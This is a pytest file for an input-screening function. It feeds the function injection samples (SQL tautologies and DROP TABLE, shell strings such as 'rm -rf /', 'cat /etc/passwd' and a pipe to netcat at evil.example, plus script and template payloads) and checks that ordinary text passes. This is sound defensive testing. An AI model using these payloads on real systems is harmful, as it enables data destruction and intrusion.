"""Signals say what a text looks like: they find what is blatant and leave ordinary text alone."""

from __future__ import annotations

import time
from typing import Any

import pytest

from gateway.rules.signals import signals

BLATANT = [
    ("12345; DROP TABLE orders;--", {"sql"}),
    ("' OR '1'='1", {"sql"}),
    ("admin' --", {"sql"}),
    ("1 UNION/**/ALL SELECT a, b FROM users", {"sql"}),
    ("1 or 1=1", {"sql"}),
    ("'; WAITFOR DELAY '0:0:5'", {"sql"}),
    ("$(rm -rf /)", {"shell"}),
    ("a.txt; cat /etc/passwd", {"shell"}),
    ("x | nc evil.example 1", {"shell"}),
    ("`id`", {"shell"}),
    ("<script>alert(1)</script>", {"markup"}),
    ('<img src="x" onerror = "f()">', {"markup"}),
    ("javascript:alert(1)", {"markup"}),
    ("{{ 7 * 7 }}", {"markup"}),
    ("it\x92s", {"control"}),
    ({"a": ["<iframe>", {"b": "$(id)"}]}, {"markup", "shell"}),
]
ORDINARY = [
    "Please select a gift from the shop for my mother.",
    "Drop by the table at noon; thanks -- Ann",
    "O'Brien and sons, rock & roll, a < b and c > d",
    "Update: the order is delayed. Delete my account, please?",
    "Gr\u00fc\u00dfe aus K\u00f6ln! 50% off | 3 for 2; while stocks last",
    "LAMP-01",
    "",
    7,
    None,
]


@pytest.mark.parametrize(("value", "found"), BLATANT, ids=range(len(BLATANT)))
def test_what_is_blatant_is_found_at_any_depth(value: Any, found: set[str]) -> None:
    assert signals(value) == found
    assert signals([{"deep": [value]}]) == found


@pytest.mark.parametrize("value", ORDINARY, ids=range(len(ORDINARY)))
def test_ordinary_text_raises_none(value: Any) -> None:
    assert signals(value) == frozenset()


@pytest.mark.parametrize("piece", ["union ", "select a ", "' or ", "<", "{{", "; ", "a\u00e9 ", "select from "])
def test_long_texts_take_time_in_proportion(piece: str) -> None:
    text = piece * 100_000
    started = time.process_time()
    signals(text)
    assert time.process_time() - started < 2
